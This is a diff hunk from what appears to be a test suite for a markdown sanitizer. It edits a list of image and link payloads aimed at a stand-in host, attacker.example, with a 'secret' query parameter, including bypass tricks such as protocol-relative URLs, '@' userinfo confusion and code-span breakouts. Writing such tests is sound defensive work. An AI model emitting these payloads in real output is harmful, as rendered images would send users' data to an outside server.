@@ -169,9 +169,9 @@ EVIL = "https://attacker.example/x?d=secret"
         f"[![badge]({EVIL})](https://example.org)",
         f"\\\\![alt]({EVIL})",  # an escaped backslash, then an image
         f"\\\\\\\\![alt]({EVIL})",
-        f"![alt](//attacker.example/x)",
-        f"![alt](https://img.example&#64;attacker.example/x)",
-        f"![alt](https://img.example\\@attacker.example/x)",
+        "![alt](//attacker.example/x)",
+        "![alt](https://img.example&#64;attacker.example/x)",
+        "![alt](https://img.example\\@attacker.example/x)",
         f"![a`](https://img.example/x)`]({EVIL})",
         f'![a](https://img.example/x "t\n\n![b]({EVIL})',
         f"- ![item]({EVIL})\n> ![quote]({EVIL})",
